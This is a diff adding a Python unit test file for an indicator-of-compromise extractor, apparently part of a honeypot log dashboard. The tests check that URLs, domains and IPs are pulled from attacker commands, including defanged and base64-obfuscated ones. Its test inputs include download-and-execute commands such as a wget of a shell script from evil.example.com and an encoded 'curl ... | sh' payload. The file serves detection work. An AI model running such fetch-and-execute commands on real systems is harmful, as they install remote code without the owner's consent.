@@ -0,0 +1,75 @@
+"""
+Indicator extraction (see INDICATORS in app.py): what the attacker sent
+counts, decoded if it was defanged or encoded, but not the labels the
+dashboard puts on events.
+"""
+import base64
+import os
+import sys
+import unittest
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, ROOT)
+
+import app  # noqa: E402
+
+
+def make_event(**fields):
+  return dict({
+    'timestamp': '2024-05-01T12:00:00',
+    'ip': '203.0.113.7',
+    'protocol': 'http',
+    'type': 'request',
+    'path': '/'
+  }, **fields)
+
+
+class IocExtractionTest(unittest.TestCase):
+  def test_payload_iocs_are_found(self):
+    event = make_event(data={'command': 'wget http://evil.example.com/x.sh'})
+    values = {(ioc['type'], ioc['value']) for ioc in app.build_ioc_table([event])}
+    self.assertIn(('url', 'http://evil.example.com/x.sh'), values)
+    self.assertIn(('domain', 'evil.example.com'), values)
+
+  def test_toolkit_label_is_not_an_ioc(self):
+    # Labelled internet-measurement.com from its network alone
+    event = make_event(location={'org': 'Driftnet Ltd'})
+    logs, _ = app.label_toolkit_events([event], [event], {})
+    self.assertEqual(logs[0]['toolkit']['name'], 'internet-measurement.com')
+    self.assertEqual(app.build_ioc_table(logs), [])
+
+  def test_case_tags_are_not_iocs(self):
+    event = make_event()
+    index = {
+      'tags': {'event': {}, 'session': {}, 'ip': {'203.0.113.7': ['evil.com', '1.2.3.4']}},
+      'incidents': {app.get_case_event_key(app.get_event_key(event)): ['INC-1']}
+    }
+    app.tag_case_events([event], index)
+    self.assertEqual(event['tags'], ['1.2.3.4', 'evil.com'])
+    self.assertEqual(event['incidents'], ['INC-1'])
+    self.assertEqual(app.build_ioc_table([event]), [])
+
+
+class DeobfuscationTest(unittest.TestCase):
+  def iocs(self, command):
+    return app.extract_event_iocs(make_event(data={'command': command}))
+
+  def test_defanged_url(self):
+    self.assertTrue(self.iocs('w\'g\'et hxxp://evil[.]example[.]com/a.sh')[('url', 'http://evil.example.com/a.sh')])
+
+  def test_base64_payload(self):
+    encoded = base64.b64encode(b'curl http://203.0.113.9/bot | sh').decode()
+    iocs = self.iocs(f'echo {encoded} | base64 -d | sh')
+    self.assertTrue(iocs[('url', 'http://203.0.113.9/bot')])
+    self.assertTrue(iocs[('ipv4', '203.0.113.9')])
+
+  def test_plain_text_is_not_decoded(self):
+    iocs = self.iocs('wget http://evil.example.com/a.sh')
+    self.assertFalse(iocs[('url', 'http://evil.example.com/a.sh')])
+
+  def test_private_addresses_are_skipped(self):
+    self.assertNotIn(('ipv4', '192.168.1.10'), self.iocs('ping 192.168.1.10'))
+
+
+if __name__ == '__main__':
+  unittest.main()